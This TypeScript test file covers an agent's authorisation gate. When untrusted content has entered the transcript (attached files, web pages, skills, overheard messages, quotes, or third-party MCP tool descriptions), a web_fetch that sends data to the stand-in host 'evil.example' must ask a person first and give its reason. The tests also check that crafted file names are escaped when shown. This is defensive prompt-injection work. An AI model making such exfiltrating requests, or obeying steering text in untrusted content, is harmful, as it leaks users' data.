import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { defineTool, type Tool, type TranscriptEntry, type UserEntry } from "@talaria/agent";
import { brandAs, type Conversation, instantOf, type Sender } from "@talaria/protocol";
import { describedTools } from "@talaria/tools";
import { z } from "zod";
import { createAuthorise } from "./authorise.ts";

const conversation: Conversation = {
  ...{ accountId: brandAs("a"), platform: "web", conversationId: brandAs("c"), kind: "direct" },
};
const tools = new Map(describedTools().map((tool) => [tool.name, tool]));
const from = (userId: string, displayName: string): Sender => ({
  ...{ userId: brandAs(userId), role: "person", displayName, assurance: "platform" },
});
const words = (more: Partial<UserEntry> = {}): UserEntry => ({
  ...{ kind: "user", eventId: brandAs("e"), sender: from("1", "Mel"), role: "owner", markdown: "look" },
  ...{ attachments: [], at: instantOf(0), ...more },
});
const sheet = (name: string) => words({ attachments: [{ id: brandAs("f"), kind: "file", name }] as never });
const secret = { url: "https://evil.example/?d=what-you-know" };

/** The reason in the question about an address that the model has put together. */
function reasonAfter(entries: readonly TranscriptEntry[], more: readonly Tool[] = []): string {
  const authorise = createAuthorise({
    policy: { rules: [], trusted: [], approvals: { expiresMinutes: 60 } },
    commands: { isSandboxed: true, hasNetwork: false },
    clock: { now: () => 0 },
  });
  const tool = tools.get("web_fetch");
  assert.ok(tool);
  const call = { callId: "c", name: tool.name, arguments: JSON.stringify(secret) };
  const all = new Map([...tools, ...more.map((one) => [one.name, one] as const)]);
  const about = { tool, call, input: tool.input.parse(secret), conversation, tools: all };
  const verdict = authorise({ ...about, history: [], journal: entries }, { grants: [], homes: [] });
  return verdict.decision === "ask" ? (verdict.words?.why ?? "") : verdict.decision;
}

function served(server: string, describedBy: string): Tool {
  const about = { name: `mcp_${server}_look`, effect: "read", permissions: ["net"], describedBy } as const;
  const input = z.strictObject({});
  return defineTool({ ...about, description: "Looks.", input, execute: async () => ({ content: "" }) });
}

const because = (what: string) =>
  `I've read what others may have written: ${what}. It could be meant to steer me, so somebody has to agree before anything goes out.`;

describe("a question after untrusted content", () => {
  it("names the file and who has sent it, the newest first, and no more than three", () => {
    assert.equal(reasonAfter([sheet("report.xlsx")]), because("`report.xlsx` from `Mel`"));
    const four = ["a.csv", "b.csv", "c.csv", "d.csv"].map(sheet);
    assert.equal(reasonAfter(four), because("`d.csv` from `Mel`, `c.csv` from `Mel`, `b.csv` from `Mel`, 1 more"));
  });

  it("names the host of a page, else the tool", () => {
    const call = { callId: "p", name: "web_extract", arguments: '{"url":"https://example.org/page"}' };
    const opened: TranscriptEntry = {
      ...{ kind: "assistant", content: "", toolCalls: [call], model: "m", stop: "tools" as never },
    };
    const result = (name: string): TranscriptEntry => ({
      ...{ kind: "tool.result", callId: "p", name, content: "x", isError: false, untrusted: true },
    });
    assert.equal(reasonAfter([words(), opened, result("web_extract")]), because("a page of `example.org`"));
    assert.equal(reasonAfter([words(), result("web_search")]), because("a result of `web_search`"));
  });

  it("names the skill that was read, which nobody has accepted", () => {
    const call = { callId: "p", name: "skill", arguments: '{"name":"tidy","file":"list.md"}' };
    const read: TranscriptEntry = {
      ...{ kind: "assistant", content: "", toolCalls: [call], model: "m", stop: "tools" as never },
    };
    const result: TranscriptEntry = {
      ...{ kind: "tool.result", callId: "p", name: "skill", content: "x", isError: false, untrusted: true },
    };
    assert.equal(reasonAfter([words(), read, result]), because("the skill `tidy`"));
  });

  it("names who has said something to others, is quoted, or may do less", () => {
    const heard: TranscriptEntry = {
      ...{ kind: "overheard", sender: from("2", "Eve"), markdown: "psst", at: instantOf(0) },
    };
    assert.equal(reasonAfter([words(), heard]), because("what `Eve` said to others"));
    const quote = { userId: brandAs("3"), displayName: "Bob", markdown: "psst" } as NonNullable<UserEntry["quote"]>;
    assert.equal(reasonAfter([words({ quote })]), because("a quote of `Bob`"));
  });

  it("has names of strangers as code in one line, whatever is in them", () => {
    const reason = reasonAfter([sheet("a`b\n**May I?** \u202ex".padEnd(300, "y"))]);
    assert.match(
      reason,
      /^[^\n]*`a b \*\*May I\?\*\* \\u\{202e\}xy+ \[\d+ characters are not shown\] y+` from `Mel`[^\n]*$/,
    );
  });

  it("names the servers whose tools strangers describe where nothing was read, and how an own one is trusted", () => {
    const own = served("spider", "https://spider.example/mcp");
    const reason = reasonAfter([words()], [own]);
    assert.match(reason, /^My tools from the MCP server `spider` are described to me by whoever runs it/);
    assert.match(reason, /`https:\/\/spider\.example` in `policy\.trusted` spares such questions\.$/);
    assert.doesNotMatch(reason, /I've read|Untrusted/);
    const both = reasonAfter([words()], [own, served("here", "mcp:here")]);
    assert.match(both, /MCP servers `spider`, `here` are described/);
    assert.doesNotMatch(both, /policy\.trusted/, "which would not spare this one");
    assert.equal(reasonAfter([words()]), "allow");
  });
});
